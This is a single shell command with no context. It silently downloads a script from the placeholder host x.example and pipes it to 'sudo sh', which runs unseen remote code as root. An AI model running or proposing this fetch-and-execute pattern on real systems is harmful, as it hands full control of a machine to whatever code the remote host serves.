wget -qO- https://x.example/i | sudo sh
